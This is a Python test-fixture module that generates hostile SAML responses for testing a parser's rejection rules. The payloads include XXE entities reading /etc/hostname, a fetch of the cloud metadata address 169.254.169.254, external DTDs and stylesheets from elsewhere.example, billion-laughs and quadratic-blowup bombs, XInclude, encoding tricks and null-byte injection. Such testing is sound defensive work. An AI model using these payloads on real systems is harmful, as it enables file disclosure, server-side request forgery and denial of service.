"""Lies in the octets: what a parser does before anybody reads: declarations, entities, encodings, size.

The signature of each is genuine, and would still verify if the parser did what the octets ask for.
"""

import re

from jitney.testing.fake_saml.lies import Stage, lie, oddity

_SECRET_FILE = b"file:///etc/hostname"
_NAME = re.compile(rb"(<saml:NameID[^>]*>)([^<]*)(</saml:NameID>)")


def _named(octets: bytes, text: bytes) -> bytes:
    return _NAME.sub(lambda match: match[1] + text + match[3], octets)


def _declared(octets: bytes, declarations: bytes) -> bytes:
    return b"<!DOCTYPE samlp:Response [" + declarations + b"]>" + octets


def _as_value(octets: bytes, text: bytes) -> bytes:
    return re.sub(rb'(xs:string">)[^<]*(<)', lambda match: match[1] + text + match[2], octets, count=1)


@lie(Stage.OCTETS)
def doctype(octets: bytes) -> bytes:
    """There is a DOCTYPE, which declares nothing; R-058."""
    return b"<!DOCTYPE samlp:Response>" + octets


@lie(Stage.OCTETS)
def doctype_elsewhere(octets: bytes) -> bytes:
    """There is a DOCTYPE that names a file of somebody else's server; R-058."""
    return b'<!DOCTYPE samlp:Response SYSTEM "https://elsewhere.example/evil.dtd">' + octets


@lie(Stage.OCTETS)
def doctype_behind_comment(octets: bytes) -> bytes:
    """There is a DOCTYPE behind a long comment; R-058."""
    return b"<!--" + b" " * 4_096 + b"-->" + b"<!DOCTYPE samlp:Response>" + octets


@lie(Stage.OCTETS)
def internal_entity(octets: bytes) -> bytes:
    """The NameID is an entity that the DOCTYPE declares; R-058."""
    return _declared(_named(octets, b"&who;"), b'<!ENTITY who "acme-ada">')


@lie(Stage.OCTETS)
def entity_cuts_name(octets: bytes) -> bytes:
    """An entity, not expanded by some parsers, divides the NameID; R-058, R-068."""
    return _declared(_named(octets, b"acme&cut;-ada"), b'<!ENTITY cut "">')


@lie(Stage.OCTETS)
def undeclared_entity(octets: bytes) -> bytes:
    """The NameID holds an entity that nobody declared."""
    return _named(octets, b"acme-ada&who;")


@lie(Stage.OCTETS)
def external_entity(octets: bytes) -> bytes:
    """An attribute's value is a file of the reader's machine; R-058."""
    return _declared(_as_value(octets, b"&file;"), b'<!ENTITY file SYSTEM "' + _SECRET_FILE + b'">')


@lie(Stage.OCTETS)
def external_entity_over_http(octets: bytes) -> bytes:
    """An attribute's value is fetched from the reader's network; R-058, R-075."""
    return _declared(
        _as_value(octets, b"&file;"), b'<!ENTITY file SYSTEM "http://169.254.169.254/latest/meta-data/">'
    )


@lie(Stage.OCTETS)
def parameter_entity(octets: bytes) -> bytes:
    """A parameter entity brings declarations from elsewhere; R-058."""
    return _declared(octets, b'<!ENTITY % more SYSTEM "http://elsewhere.example/more.dtd"> %more;')


@lie(Stage.OCTETS)
def default_attribute(octets: bytes) -> bytes:
    """The DOCTYPE gives elements an attribute that the document does not show; R-058."""
    return _declared(octets, b'<!ATTLIST saml:NameID SPNameQualifier CDATA "another">')


@lie(Stage.OCTETS)
def billion_laughs(octets: bytes) -> bytes:
    """Entities of entities grow to a thousand million; R-058."""
    entities = b'<!ENTITY a0 "ha">' + b"".join(
        b'<!ENTITY a%d "%s">' % (level, b"&a%d;" % (level - 1) * 10) for level in range(1, 10)
    )
    return _declared(_as_value(octets, b"&a9;"), entities)


@lie(Stage.OCTETS)
def quadratic_blowup(octets: bytes) -> bytes:
    """One long entity is named ten thousand times; R-058."""
    return _declared(_as_value(octets, b"&a;" * 10_000), b'<!ENTITY a "' + b"a" * 50_000 + b'">')


@lie(Stage.OCTETS)
def instruction_before_root(octets: bytes) -> bytes:
    """A processing instruction names a style sheet; R-058."""
    return b'<?xml-stylesheet type="text/xsl" href="https://elsewhere.example/evil.xsl"?>' + octets


@lie(Stage.OCTETS)
def instruction_behind_root(octets: bytes) -> bytes:
    """A processing instruction follows the message; R-058."""
    return octets + b"<?php echo 1 ?>"


@lie(Stage.OCTETS)
def inclusion(octets: bytes) -> bytes:
    """An attribute's value is to be included from a file; R-068: a child element."""
    include = (
        b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="%s"/>' % _SECRET_FILE
    )
    return _as_value(octets, include)


@lie(Stage.OCTETS)
def utf16_with_doctype(octets: bytes) -> bytes:
    """A DOCTYPE in UTF-16, which a search for its octets does not find; R-058."""
    return ("<!DOCTYPE samlp:Response>" + octets.decode()).encode("utf-16")


@lie(Stage.OCTETS)
def utf16(octets: bytes) -> bytes:
    """The message is written in UTF-16, in which a search for octets finds nothing; R-058."""
    return octets.decode().encode("utf-16")


@lie(Stage.OCTETS)
def utf16_without_mark(octets: bytes) -> bytes:
    """The message is written in UTF-16 without a byte order mark; R-058."""
    return octets.decode().encode("utf-16-le")


@lie(Stage.OCTETS)
def utf32(octets: bytes) -> bytes:
    """The message is written in UTF-32; R-058."""
    return octets.decode().encode("utf-32")


@lie(Stage.OCTETS)
def utf7_declared(octets: bytes) -> bytes:
    """The declaration says UTF-7, in which ``+ADw-`` opens a tag; R-058."""
    return b'<?xml version="1.0" encoding="UTF-7"?>' + b"+ADwAIQ-DOCTYPE samlp:Response+AD4-" + octets


@lie(Stage.OCTETS)
def ebcdic(octets: bytes) -> bytes:
    """The message with a DOCTYPE is written in EBCDIC; R-058."""
    text = '<?xml version="1.0" encoding="cp037"?><!DOCTYPE samlp:Response>' + octets.decode()
    return text.encode("cp037")


@lie(Stage.OCTETS)
def latin1_declared(octets: bytes) -> bytes:
    """The declaration says ISO-8859-1: octets beyond ASCII are other characters to another reader; R-058."""
    return b'<?xml version="1.0" encoding="ISO-8859-1"?>' + octets


@lie(Stage.OCTETS)
def broken_utf8(octets: bytes) -> bytes:
    """The NameID holds octets that are no UTF-8, the long form of a quotation mark."""
    return _named(octets, b"acme-ada\xc0\xa2")


@lie(Stage.OCTETS)
def zero_octet(octets: bytes) -> bytes:
    """The NameID holds a zero octet, at which readers in C stop."""
    return _named(octets, b"acme-ada\x00.attacker")


@lie(Stage.OCTETS)
def zero_octet_behind(octets: bytes) -> bytes:
    """A zero octet and a DOCTYPE follow the message; R-058."""
    return octets + b"\x00<!DOCTYPE samlp:Response>"


@lie(Stage.OCTETS)
def zero_character(octets: bytes) -> bytes:
    """The NameID holds a reference to the character zero, which XML does not know."""
    return _named(octets, b"acme-ada&#0;")


@lie(Stage.OCTETS)
def control_character(octets: bytes) -> bytes:
    """The NameID holds a control character, which XML does not know."""
    return _named(octets, b"acme-ada\x01")


@lie(Stage.OCTETS)
def xml_of_another_version(octets: bytes) -> bytes:
    """The declaration says XML 1.1, in which control characters are allowed."""
    return b'<?xml version="1.1"?>' + _named(octets, b"acme-ada&#1;")


@lie(Stage.OCTETS)
def two_roots(octets: bytes) -> bytes:
    """The message is there twice, one behind the other."""
    return octets + octets


@lie(Stage.OCTETS)
def trailing_text(octets: bytes) -> bytes:
    """Text follows the message."""
    return octets + b"and so on"


@lie(Stage.OCTETS)
def leading_text(octets: bytes) -> bytes:
    """Text comes before the message."""
    return b"As follows: " + octets


@lie(Stage.OCTETS)
def cut_off(octets: bytes) -> bytes:
    """The message ends in its middle."""
    return octets[: len(octets) // 2]


@lie(Stage.OCTETS)
def no_octets(_octets: bytes) -> bytes:
    """The message is empty."""
    return b""


@lie(Stage.OCTETS)
def page_of_html(_octets: bytes) -> bytes:
    """The message is somebody's page."""
    return b"<!doctype html><title>Welcome</title><h1>Welcome to the hotel's wireless network"


@lie(Stage.OCTETS)
def json_instead(_octets: bytes) -> bytes:
    """The message is JSON."""
    return b'{"sub": "acme-ada"}'


@lie(Stage.OCTETS)
def huge(octets: bytes) -> bytes:
    """The message has 257 KiB, by white space at its end; R-058: at most 256 KiB."""
    return octets + b" " * (257 * 1024 - len(octets))


@lie(Stage.OCTETS)
def huge_by_comment(octets: bytes) -> bytes:
    """The message has 257 KiB, by a comment; R-058: at most 256 KiB."""
    return octets + b"<!--" + b" " * (257 * 1024 - len(octets)) + b"-->"


@lie(Stage.OCTETS)
def deep_document(octets: bytes) -> bytes:
    """A hundred thousand elements are opened and never closed."""
    return octets[:-1] + b"<a>" * 50_000


@lie(Stage.OCTETS)
def attribute_of_element_twice(octets: bytes) -> bytes:
    """The assertion has two attributes ``ID``."""
    return octets.replace(b"<saml:Assertion ", b'<saml:Assertion ID="_another" ', 1)


@lie(Stage.OCTETS)
def prefix_of_another_namespace(octets: bytes) -> bytes:
    """The prefix ``samlp`` means the namespace of SAML 1.1."""
    return octets.replace(b"names:tc:SAML:2.0:protocol", b"names:tc:SAML:1.0:protocol")


@lie(Stage.OCTETS)
def undeclared_prefix(octets: bytes) -> bytes:
    """An element's prefix is declared nowhere."""
    return octets.replace(b"<samlp:Status>", b"<samlp:Status><un:known/>", 1)


@oddity(Stage.OCTETS)
def byte_order_mark(octets: bytes) -> bytes:
    """The message begins with the byte order mark of UTF-8, as Windows likes it."""
    return b"\xef\xbb\xbf" + octets


@oddity(Stage.OCTETS)
def declaration(octets: bytes) -> bytes:
    """The message begins with an XML declaration that says UTF-8, as it is."""
    return b'<?xml version="1.0" encoding="UTF-8"?>\n' + octets


@oddity(Stage.OCTETS)
def section_in_name(octets: bytes) -> bytes:
    """Half of the NameID stands in a CDATA section, which is text like any other: all of it is the name."""
    return _named(octets, b"acme-<![CDATA[ada]]>")


@oddity(Stage.OCTETS)
def character_reference_in_name(octets: bytes) -> bytes:
    """A letter of the NameID is written as a character reference: the same letter."""
    return _named(octets, b"acme-&#97;da")
